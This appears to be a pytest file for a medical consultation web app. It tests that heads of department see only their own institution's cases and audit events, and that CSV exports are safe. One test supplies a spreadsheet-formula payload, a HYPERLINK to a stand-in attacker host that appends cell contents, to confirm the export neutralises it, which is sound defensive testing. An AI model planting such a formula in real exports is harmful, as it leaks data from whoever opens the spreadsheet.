"""What heads see in the history and the audit trail, over HTTP with real logins: exactly the
cases the policy lets them open, and the audit events about their own institution's data (not
another hospital's events that happen to carry the same PatientID)."""

from __future__ import annotations

import csv
import io
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import pydicom
import pytest
from pydicom.uid import generate_uid

from tests.conftest import CONFIG, CONSILIUM, pydicom_data_dir
from tests.webserver import WebServer, csrf_of

DATA = pydicom_data_dir()
CITY_STUDY = "1.3.6.1.4.1.5962.1.2.1.20040119072730.12322"  # CT_small.dcm, PatientID 1CT1
TWIN_STUDY = "1.2.826.0.1.3680043.8.498.20261203.1"  # the regional center's 1CT1 (not ours)


def _import(data_dir: Path, institution: str, path: Path) -> None:
    subprocess.run([str(CONSILIUM), "import", "--config", str(CONFIG), "--data-dir",
                    str(data_dir), "--institution", institution, "--quiet", str(path)],
                   check=True, capture_output=True)


@pytest.fixture(scope="module")
def web(tmp_path_factory: pytest.TempPathFactory) -> Iterator[WebServer]:
    root = tmp_path_factory.mktemp("history-scope")
    data_dir = root / "var"
    _import(data_dir, "city-hospital", DATA / "test_files" / "CT_small.dcm")
    # another hospital's patient who happens to have the same PatientID
    twin = pydicom.dcmread(DATA / "test_files" / "CT_small.dcm")
    twin.SpecificCharacterSet = "ISO_IR 192"
    twin.PatientName = "Другой^Пациент"
    twin.StudyInstanceUID = TWIN_STUDY
    twin.SeriesInstanceUID = generate_uid()
    twin.SOPInstanceUID = generate_uid()
    twin.file_meta.MediaStorageSOPInstanceUID = twin.SOPInstanceUID
    twin.save_as(root / "twin.dcm")
    _import(data_dir, "regional-center", root / "twin.dcm")
    server = WebServer(data_dir, extra_env={
        "CONSILIUM_IDENTITY_LOGIN_ATTEMPTS_PER_MINUTE": "1000"}).start()
    yield server
    server.stop()


def _post(client: httpx.Client, path: str, body: dict[str, object]) -> httpx.Response:
    return client.post(path, json=body, headers={"X-CSRF-Token": csrf_of(client)})


def test_a_draft_is_not_in_the_target_heads_history_until_it_is_sent(web: WebServer) -> None:
    referring = web.login("ivanova")
    created = _post(referring, "/api/cases", {
        "question": "Секретный вопрос черновика", "clinical_info": "Анамнез черновика",
        "study_uids": [CITY_STUDY], "target_institution": "regional-center",
        "priority": "routine"})
    assert created.status_code == 200, created.text
    case_id = created.json()["id"]
    regional_head = web.login("morozov")
    city_head = web.login("sidorov")

    def listed(client: httpx.Client) -> list[int]:
        answer = client.get("/api/history/cases")
        assert answer.status_code == 200, answer.text
        return [c["id"] for c in answer.json()]

    def exported(client: httpx.Client) -> str:
        answer = client.get("/api/history/cases", params={"format": "csv"})
        assert answer.status_code == 200
        return answer.text

    assert regional_head.get(f"/api/cases/{case_id}").status_code == 404
    assert case_id not in listed(regional_head)
    assert "Секретный вопрос черновика" not in exported(regional_head)
    assert "Анамнез черновика" not in exported(regional_head)
    # the requesting institution's head sees its own drafts, as /api/cases/{id} lets them
    assert city_head.get(f"/api/cases/{case_id}").status_code == 200
    assert case_id in listed(city_head)
    assert "Секретный вопрос черновика" in exported(city_head)

    assert _post(referring, f"/api/cases/{case_id}/submit", {"version": 1}).status_code == 200
    assert regional_head.get(f"/api/cases/{case_id}").status_code == 200
    assert case_id in listed(regional_head)
    exported_text = exported(regional_head)
    assert exported_text.startswith("\ufeff")  # the byte order mark Excel needs for UTF-8
    rows = list(csv.DictReader(io.StringIO(exported_text.removeprefix("\ufeff"))))
    assert [r["question"] for r in rows if r["id"] == str(case_id)] == [
        "Секретный вопрос черновика"]


def _audit_until(client: httpx.Client, params: dict[str, str], actor: str
                 ) -> list[dict[str, object]]:
    """The head's search once ``actor``'s event is in (the DICOMweb audit is written in the
    background)."""
    deadline = time.monotonic() + 10
    while True:
        rows: list[dict[str, object]] = client.get("/api/audit", params=params).json()
        if any(r["actor"] == actor for r in rows) or time.monotonic() > deadline:
            return rows
        time.sleep(0.05)


def test_a_shared_patient_id_does_not_show_another_hospitals_events(web: WebServer) -> None:
    petrov, kuznetsova = web.login("petrov"), web.login("kuznetsova")
    assert petrov.get(f"/dicom-web/studies/{CITY_STUDY}/metadata").status_code == 200
    assert kuznetsova.get(f"/dicom-web/studies/{TWIN_STUDY}/metadata").status_code == 200
    city = _audit_until(web.login("sidorov"), {"patient_id": "1CT1"}, "dev:petrov")
    regional = _audit_until(web.login("morozov"), {"patient_id": "1CT1"}, "dev:kuznetsova")
    assert {(r["actor"], r["study_uid"]) for r in city if r["action"] == "view"} == {
        ("dev:petrov", CITY_STUDY)}
    assert {(r["actor"], r["study_uid"]) for r in regional if r["action"] == "view"} == {
        ("dev:kuznetsova", TWIN_STUDY)}
    assert all(TWIN_STUDY not in str(r) and "Другой" not in str(r) for r in city)
    csv_text = web.login("sidorov").get("/api/audit", params={"format": "csv"}).text
    assert TWIN_STUDY not in csv_text and "Другой" not in csv_text


def test_the_history_csv_carries_no_formula(web: WebServer) -> None:
    referring = web.login("ivanova")
    created = _post(referring, "/api/cases", {
        "question": "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
        "study_uids": [CITY_STUDY], "target_institution": "regional-center"})
    assert created.status_code == 200, created.text
    text = web.login("sidorov").get("/api/history/cases", params={"format": "csv"}).text
    [row] = [r for r in csv.DictReader(io.StringIO(text.removeprefix("\ufeff")))
             if r["id"] == str(created.json()["id"])]
    assert row["question"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")"
    bad_offset = web.login("sidorov").get("/api/audit", params={"offset": str(2**70)})
    assert bad_offset.status_code == 400
